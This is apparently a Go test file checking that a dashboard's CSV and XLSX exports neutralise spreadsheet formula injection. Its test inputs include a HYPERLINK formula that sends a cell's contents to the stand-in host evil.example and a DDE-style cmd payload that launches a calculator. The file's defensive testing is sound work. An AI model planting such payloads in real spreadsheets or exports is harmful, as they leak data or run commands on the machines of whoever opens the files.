package dashboard

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// formulaCells are texts an inspector might type that a spreadsheet would run as formulas.
var formulaCells = []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1", "\r=1+1"}

func TestCellTextDefusesFormulas(t *testing.T) {
	for _, s := range formulaCells {
		if got := cellText(s); got != "'"+s {
			t.Errorf("cellText(%q)=%q, want a leading quote", s, got)
		}
	}
	for in, want := range map[any]string{"Сумын төв": "Сумын төв", "": "", "a=b": "a=b", "2025-03-14": "2025-03-14",
		int64(-5): "-5", float64(-2.5): "-2.5", nil: ""} {
		if got := cellText(in); got != want {
			t.Errorf("cellText(%#v)=%q, want %q", in, got, want)
		}
	}
}

func formulaTable() table {
	return table{Sheet: "Events", Header: []string{"ID", "Place", "Count"},
		Rows: func(_ context.Context, emit func([]any) error) error {
			for i, s := range formulaCells {
				if err := emit([]any{"id", s, int64(-i)}); err != nil {
					return err
				}
			}
			return nil
		}}
}

// TestWriteCSVDefusesFormulas: every free-text cell that starts a formula reads back quoted;
// numbers stay numbers.
func TestWriteCSVDefusesFormulas(t *testing.T) {
	var b bytes.Buffer
	if err := writeCSV(context.Background(), &b, formulaTable()); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, s := range formulaCells {
		if got := rows[i+1][1]; got != "'"+s {
			t.Errorf("row %d: %q, want %q", i+1, got, "'"+s)
		}
		if i > 0 && !strings.HasPrefix(rows[i+1][2], "-") {
			t.Errorf("row %d: number %q was quoted", i+1, rows[i+1][2])
		}
	}
}

// TestWriteXLSXKeepsStrings: in the workbook the same texts are string cells as typed, never
// formulas, so they need no quote.
func TestWriteXLSXKeepsStrings(t *testing.T) {
	var b bytes.Buffer
	if err := writeXLSX(context.Background(), &b, formulaTable()); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, s := range formulaCells {
		cell, _ := excelize.CoordinatesToCellName(2, i+2)
		if fm, err := f.GetCellFormula("Events", cell); err != nil || fm != "" {
			t.Errorf("%s: formula %q (%v)", cell, fm, err)
		}
		typ, err := f.GetCellType("Events", cell)
		if err != nil || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
			t.Errorf("%s: cell type %v (%v), want a string", cell, typ, err)
		}
		if got, _ := f.GetCellValue("Events", cell); got != s {
			t.Errorf("%s: %q, want %q as typed", cell, got, s)
		}
	}
	if typ, _ := f.GetCellType("Events", "C3"); typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
		t.Errorf("a number became a string cell")
	}
}
